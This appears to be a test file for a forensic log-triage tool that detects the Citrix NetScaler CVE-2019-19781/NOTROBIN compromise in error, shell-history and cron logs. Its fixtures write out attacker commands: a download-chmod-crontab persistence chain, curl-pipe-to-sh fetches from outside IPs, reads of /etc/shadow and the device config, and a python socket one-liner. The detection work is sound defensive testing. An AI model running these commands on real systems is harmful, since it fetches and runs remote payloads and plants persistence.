/**
 * Error log (§4.4), shell history (§4.2#12, §4.5) and cron log (§4.2#11): positives from the
 * FireEye fixture shapes, and the clean-box lines that must not fire (Apache's own diagnostics
 * echoing a requested path, our own and FireEye's grep commands, ordinary cron jobs).
 */
import { describe, expect, it } from 'vitest';
import { commandOutputMarker } from '../../../src/triage/logs/errorlog.js';
import { analyzeLogs } from '../../../src/triage/logs/index.js';
import { isWhitelistedCommand, shellIoc } from '../../../src/triage/logs/shell.js';
import type { LogAnalysis } from '../../../src/triage/types.js';
import { MemCollection } from './helpers.js';

const META = { 'collect.txt': 'hostname: ns1\ncollected_at: 2020-01-20T08:00:00Z\n' };
function run(files: Record<string, string>, meta: Record<string, string> = META): Promise<LogAnalysis> {
  return analyzeLogs(new MemCollection(files, meta, 61));
}

describe('error-log-command-output', () => {
  it.each([
    'curl: (7) Failed to connect to 95.179.163.186 port 443: Connection refused',
    '  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current',
    'sh: wget: not found',
    'wget: not found',
    'mkdir: /tmp/.init: File exists',
    'rm: /var/tmp/netscalerd: No such file or directory',
    'cat: /proc/version: No such file or directory',
    'cat: /proc/cpuinfo: No such file or directory',
    'socket.error: [Errno 61] Connection refused',
    'Traceback (most recent call last):',
    'chmod: /tmp/.init/httpd: No such file or directory',
    '[Fri Jan 17 20:07:23 2020] [error] [client 95.179.163.186] curl: (6) Could not resolve host: x',
    '[Fri Jan 17 20:07:23 2020] [error] [client 95.179.163.186] Traceback (most recent call last):',
  ])('fires on %s', (line) => {
    expect(commandOutputMarker(line)).not.toBeNull();
  });

  it.each([
    '[Fri Jan 17 20:07:22 2020] [error] [client 1.2.3.4] File does not exist: /netscaler/ns_gui/vpn/favicon.ico',
    '[Fri Jan 17 20:07:22 2020] [error] [client 1.2.3.4] File does not exist: /netscaler/ns_gui/curl.sh',
    '[Fri Jan 17 20:07:22 2020] [error] [client 1.2.3.4] File does not exist: /var/tmp/netscalerd',
    '[Fri Jan 17 20:07:22 2020] [error] [client 1.2.3.4] client denied by server configuration: /netscaler/portal/templates/wget.xml',
    '[Fri Jan 17 20:07:22 2020] [error] [client 1.2.3.4] script not found or unable to stat: /netscaler/portal/scripts/mkdir.pl',
    '[Fri Jan 17 20:07:22 2020] [error] [client 1.2.3.4] Invalid URI in request GET /vpn/../curl HTTP/1.1',
    '[Fri Jan 17 20:07:22 2020] [error] [client 1.2.3.4] (2)No such file or directory: cannot access /tmp/.init/httpd',
    '[Fri Jan 17 20:07:22.123456 2020] [core:error] [pid 1234] [client 1.2.3.4:50000] AH00128: File does not exist: /var/www/wget',
    '[Fri Jan 17 20:07:22 2020] [notice] Apache/2.2.31 (Unix) mod_ssl/2.2.31 configured -- resuming normal operations',
    '[Fri Jan 17 20:07:22 2020] [error] [client 1.2.3.4] PHP Warning:  curl_init() has been disabled',
    'Use of uninitialized value in concatenation (.) or string at /netscaler/portal/scripts/PersonalBookmark.pl line 42.',
    '[Fri Jan 17 20:07:22 2020] [error] [client 1.2.3.4] request failed: URI too long (longer than 8190)',
    'curly braces are not markers',
  ])('does not fire on %s', (line) => {
    expect(commandOutputMarker(line)).toBeNull();
  });

  it('reports the line, with the time of the stamped line above for bare output', async () => {
    const r = await run({
      '/var/log/httperror.log': [
        '[Fri Jan 17 20:07:22 2020] [error] [client 1.2.3.4] File does not exist: /netscaler/ns_gui/vpn/curl.ico',
        '[Fri Jan 17 20:07:23 2020] [notice] child pid 4242 exit signal Segmentation fault (11)',
        'curl: (7) Failed to connect to 95.179.163.186 port 443: Connection refused',
        'mkdir: /tmp/.init: File exists',
      ].join('\n'),
    });
    expect(r.findings.map((f) => [f.rule, f.line, f.confidence, f.time])).toEqual([
      ['error-log-command-output', 3, 'high', '2020-01-17T20:07:23.000Z'],
      ['error-log-command-output', 4, 'medium', '2020-01-17T20:07:23.000Z'],
    ]);
    expect(r.timeline[0].what).toContain('curl: (7) Failed to connect');
  });
});

describe('shell-history-ioc', () => {
  const L = (user: string, cmd: string, ts = 'Jan 17 20:10:00') =>
    `${ts} <local7.notice> ns bash[4242]: ${user} on (null) shell_command="${cmd}"`;

  it('reports the NOTROBIN install chain from notice.log as high, with the syslog time', async () => {
    const chain =
      'pkill -9 netscalerd; rm /var/tmp/netscalerd; mkdir /tmp/.init; curl -k https://95.179.163.186/wp-content/uploads/2018/09/64d4c2d3ee56af4f4ca8171556d50faa -o /tmp/.init/httpd; chmod 744 /tmp/.init/httpd; echo "* * * * * /var/nstmp/.nscache/httpd" | crontab -; /tmp/.init/httpd &';
    const r = await run({ '/var/log/notice.log': `${L('nobody', chain)}\n` });
    expect(r.findings).toHaveLength(1);
    const f = r.findings[0];
    expect([f.rule, f.kind, f.confidence, f.line, f.path, f.time]).toEqual([
      'shell-history-ioc',
      'compromise',
      'high',
      1,
      '/var/log/notice.log',
      '2020-01-17T20:10:00.000Z',
    ]);
    expect(f.excerpt.length).toBeLessThanOrEqual(300);
    expect(f.excerpt.endsWith('…')).toBe(true);
    expect(r.timeline[0].what.startsWith('ran (nobody): pkill -9 netscalerd')).toBe(true);
  });

  it.each([
    ['root', 'curl http://62.113.112.33/ci.sh | sh', 'high'],
    ['root', 'wget -q http://185.178.45.221/ci3.sh', 'high'],
    ['root', 'chmod +x /tmp/bsd && /tmp/bsd', 'high'],
    ['root', 'cd /tmp; ./un', null], // `/tmp/un` is not in the command text
    ['root', '/tmp/un -s 66.42.98.220', 'high'],
    ['root', 'ls /var/nstmp/.nscache/prev.sh; sh /var/nstmp/.nscache/prev.sh', 'high'],
    ['(null)', 'cat /flash/nsconfig/ns.conf', 'medium'],
    ['nobody', "python -c 'import socket,subprocess'", 'medium'],
    ['nsroot', 'cat /etc/shadow', 'low'],
    ['nsroot', 'cat /etc/passwd', null],
    ['nsroot', 'whoami', null],
    ['nsroot', 'unzip /tmp/unrelated.zip', null],
    ['nsroot', 'sh /netscaler/build.sh', null],
    ['nsroot', 'grep -E "95.179.163.186|/tmp/.init/httpd|ci.sh" /var/log/bash.log', null],
    ['nsroot', 'zcat /var/log/notice.log.0.gz | grep 62.113.112.33 | wc -l', null],
    ['nsroot', 'ls -la /tmp/.init/httpd 2>/dev/null', null],
    ['nsroot', 'sh /var/tmp/edgewatch-collect.sh', null],
    ['nsroot', 'cp /var/nstmp/.nscache/httpd /var/tmp/edgewatch-collect.1/fs/var/nstmp/.nscache/httpd', null],
    ['nsroot', 'bash ioc-scanner-CVE-2019-19781.sh -v', null],
    ['nsroot', 'grep 95.179.163.186 /var/log/bash.log; curl http://95.179.163.186/x', 'high'],
  ])('%s: %s → %s', async (user, cmd, conf) => {
    const r = await run({ '/var/log/bash.log': `${L(user, cmd)}\n` });
    expect(r.findings.map((f) => f.confidence)).toEqual(conf ? [conf] : []);
    if (conf) expect(r.findings[0].kind).toBe(conf === 'low' ? 'anomaly' : 'compromise');
  });

  it('whitelists read-only searches only', () => {
    expect(isWhitelistedCommand('egrep -i "ci.sh|netscalerd" /var/log/cron')).toBe(true);
    expect(isWhitelistedCommand('grep x /var/log/cron > /tmp/out')).toBe(false);
    expect(isWhitelistedCommand('cat /etc/shadow | head')).toBe(false);
    expect(isWhitelistedCommand('grep `curl 1.2.3.4` x')).toBe(false);
    expect(shellIoc('no shell_command here but 95.179.163.186')?.strong).toBe(true);
  });

  it('reads sh.log and rotated bash.log, year from collected_at (Dec stamp → previous year)', async () => {
    const r = await run({
      '/var/log/bash.log.1': `${L('root', 'curl -O http://45.120.53.214/x64.dll', 'Dec 30 23:59:59')}\n`,
      '/var/log/sh.log': `${L('root', 'sh /tmp/l.sh', 'Jan  2 01:00:00')}\n`,
    });
    expect(r.findings.map((f) => [f.path, f.time])).toEqual([
      ['/var/log/bash.log.1', '2019-12-30T23:59:59.000Z'],
      ['/var/log/sh.log', '2020-01-02T01:00:00.000Z'],
    ]);
  });

  it('without collected_at takes the year from the access log, else leaves the time out and says so', async () => {
    const line = `${L('root', 'curl http://95.179.163.186/a')}\n`;
    const a = await run(
      {
        '/var/log/bash.log': line,
        '/var/log/httpaccess.log': '1.2.3.4 - - [18/Jan/2021:00:00:00 +0000] "GET /vpns/a.xml HTTP/1.1" 404 1 "-" "-"\n',
      },
      {},
    );
    expect(a.findings.find((f) => f.rule === 'shell-history-ioc')?.time).toBe('2021-01-17T20:10:00.000Z');
    const b = await run({ '/var/log/bash.log': line }, {});
    expect(b.findings[0].time).toBeUndefined();
    expect(b.notChecked.some((s) => s.includes('no collected_at'))).toBe(true);
  });
});

describe('cron-log-download', () => {
  it('fires on nobody jobs and downloader traces, not on ordinary jobs', async () => {
    const r = await run({
      '/var/log/cron': [
        'Jan 17 20:00:00 ns /usr/sbin/cron[1001]: (root) CMD (newsyslog)',
        'Jan 17 20:00:00 ns /usr/sbin/cron[1002]: (operator) CMD (/usr/libexec/save-entropy)',
        'Jan 17 20:00:00 ns /usr/sbin/cron[1003]: (root) CMD (/netscaler/nsbackup.sh -auto)',
        'Jan 17 20:01:00 ns /usr/sbin/cron[1004]: (nobody) CMD (/var/nstmp/.nscache/httpd)',
        'Jan 17 20:02:00 ns /usr/sbin/cron[1005]: (root) CMD (curl -s http://185.178.45.221/ci2.sh | sh)',
        'Jan 17 20:02:00 ns /usr/sbin/cron[1006]: (root) CMD (/usr/bin/fetch http://162.113.112.33/x)',
      ].join('\n'),
    });
    expect(r.findings.map((f) => [f.rule, f.line, f.confidence, f.kind, f.time])).toEqual([
      ['cron-log-download', 4, 'high', 'compromise', '2020-01-17T20:01:00.000Z'],
      ['cron-log-download', 5, 'high', 'compromise', '2020-01-17T20:02:00.000Z'],
    ]);
    expect(r.timeline.map((e) => e.what)).toEqual([
      'cron ran: /var/nstmp/.nscache/httpd',
      'cron ran: curl -s http://185.178.45.221/ci2.sh | sh',
    ]);
  });
});

describe('clean box', () => {
  it('ordinary error, shell, cron and notice logs give nothing', async () => {
    const r = await run({
      '/var/log/httperror.log': [
        '[Mon Jan 13 09:00:00 2020] [notice] Apache/2.2.31 (Unix) mod_ssl/2.2.31 OpenSSL/1.0.2s configured -- resuming normal operations',
        '[Mon Jan 13 09:10:00 2020] [error] [client 10.1.2.3] File does not exist: /netscaler/ns_gui/vpn/favicon.ico',
        '[Mon Jan 13 09:10:01 2020] [error] [client 10.1.2.4] File does not exist: /netscaler/ns_gui/wget.sh',
        '[Mon Jan 13 09:10:02 2020] [error] [client 10.1.2.5] client denied by server configuration: /netscaler/portal/templates/curl.xml',
      ].join('\n'),
      '/var/log/bash.log': [
        'Jan 13 09:00:00 <local7.notice> ns bash[100]: nsroot on /dev/pts/0 shell_command="ls -la /var/log"',
        'Jan 13 09:00:05 <local7.notice> ns bash[100]: nsroot on /dev/pts/0 shell_command="tail -f /var/log/ns.log"',
        'Jan 13 09:01:00 <local7.notice> ns bash[101]: root on (null) shell_command="/netscaler/nsconmsg -d current"',
      ].join('\n'),
      '/var/log/notice.log': 'Jan 13 09:00:00 <local0.notice> ns nsconfigd: config saved\n',
      '/var/log/cron': 'Jan 13 09:00:00 ns /usr/sbin/cron[1]: (root) CMD (newsyslog)\n',
    });
    expect(r.findings).toEqual([]);
    expect(r.timeline).toEqual([]);
    expect(r.checked).toHaveLength(3);
    expect(r.notChecked).toEqual(['access logs: no /var/log/httpaccess.log* in the collection']);
  });
});
